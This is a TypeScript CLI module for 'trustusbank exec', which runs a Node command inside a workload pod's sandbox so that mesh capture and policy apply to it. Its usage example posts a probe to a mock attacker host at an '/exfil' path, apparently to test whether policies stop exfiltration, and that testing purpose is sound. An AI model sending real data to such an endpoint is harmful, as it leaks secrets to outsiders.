// `trustusbank exec -n NS <workload> -- <command…>`: run a command inside one of a workload's pods, like
// `kubectl exec`: in the pod's sandbox (its namespaces where the kernel isolates pods, its file view and
// Node's permission model), its connections captured on the pod's own capture socket and carried by
// ztunnel under the pod's SPIFFE identity, so policies apply to it exactly as to the pod. The command must be
// a Node program (`node …`, or `trustusbank curl`, which every pod carries): the capture is a Node preload.
import { spawn } from 'node:child_process';
import { existsSync, realpathSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { UsageError, UserError } from '../../core/errors.ts';
import type { CaptureInit } from '../../mesh/capture/protocol.ts';
import type { ExecSandbox } from '../../control-plane/admin-routes.ts';
import { POD_CURL_FILE } from '../../runtime/stack-state.ts';
import { podCommand, withoutForbiddenEnv } from '../../runtime/pod-process.ts';
import { dataDirHelp, stackCommand } from '../stack-command.ts';

const usage = `Usage: trustusbank exec -n NAMESPACE <workload> [--data-dir DIR] -- <command> [args…]

Run a command with the network identity of one of the workload's pods: every connection it makes is
captured and carried by ztunnel as that pod (its SPIFFE identity, its policies). The command must be a
Node program: \`trustusbank curl …\` (the tool every pod carries) or \`node script.js …\`. It runs in the
pod's sandbox: the pod's files only, no other process, and where the kernel isolates pods, no network but
the pod's capture socket.

Example:
  trustusbank exec -n trustusbank-bank-vendors currency-converter -- \\
    trustusbank curl -X POST -d '{"probe":true}' http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil

Options:
  -n, --namespace NS   the workload's namespace
${dataDirHelp(21)}
  -h, --help           show this help`;

export const execCommand = stackCommand({
  name: 'exec',
  summary: "run a command with a pod's identity and capture (like kubectl exec)",
  usage,
  options: { namespace: { type: 'string', short: 'n' } },
  maxPositionals: Infinity,
  passThrough: true,
  async run({ values, positionals, passed: command, stack }) {
    const [workload, ...extra] = positionals;
    if (workload === undefined) throw new UsageError('which workload?', usage);
    if (extra.length > 0) throw new UsageError(`unexpected argument "${extra[0]}" (put the command after --)`, usage);
    if (values.namespace === undefined) throw new UsageError(`which namespace is ${workload} in? give -n NAMESPACE`, usage);
    if (command.length === 0) throw new UsageError('which command? put it after --', usage);
    const [program, ...args] = command as [string, ...string[]];
    if (program !== 'trustusbank' && program !== 'node' && program !== process.execPath) {
      throw new UsageError(`exec runs Node programs (trustusbank curl …, node …); "${program}" is not one, so its connections could not be captured`, usage);
    }
    // A pod carries one tool of the CLI, bundled into a file by `up` (the CLI's TypeScript loader needs a worker
    // thread, which no pod may start).
    if (program === 'trustusbank' && args[0] !== 'curl') {
      throw new UsageError(`inside a pod, \`trustusbank curl\` is the one trustusbank command there is (got "trustusbank ${args[0] ?? ''}"); other Node programs run as \`node script.js\``, usage);
    }
    const grant = await stack().call<{ init: CaptureInit; sandbox: ExecSandbox; pod: string; identity: string }>('POST', '/exec', { namespace: values.namespace, workload });
    let nodeArgs: string[];
    // What the command itself must read, on top of the pod's own view.
    let programPaths: string[];
    if (program === 'trustusbank') {
      const curl = join(dirname(grant.sandbox.shimFile), POD_CURL_FILE);
      nodeArgs = [curl, ...args.slice(1)];
      programPaths = [curl];
    } else {
      nodeArgs = args;
      const script = args.find((arg) => !arg.startsWith('-'));
      programPaths = script !== undefined && existsSync(script) ? [realpathSync(script)] : [];
    }

    if (!existsSync(grant.sandbox.shimFile)) throw new UserError(`the capture shim is missing from ${grant.sandbox.shimFile}; restart the stack`);
    try {
      const sandbox = { ...grant.sandbox, readPaths: [...grant.sandbox.readPaths, ...programPaths] };
      const launch = podCommand(sandbox, nodeArgs);
      const child = spawn(launch.command, launch.args, { cwd: sandbox.volumeDir, env: withoutForbiddenEnv(process.env), stdio: ['inherit', 'inherit', 'inherit', 'ipc'] });
      child.send(grant.init);
      const code = await new Promise<number>((resolve) => child.once('exit', (exitCode, signal) => resolve(exitCode ?? (signal ? 128 : 1))));
      return code;
    } finally {
      await stack().call('POST', '/exec/release', { token: grant.init.token }).catch(() => undefined);
    }
  },
});
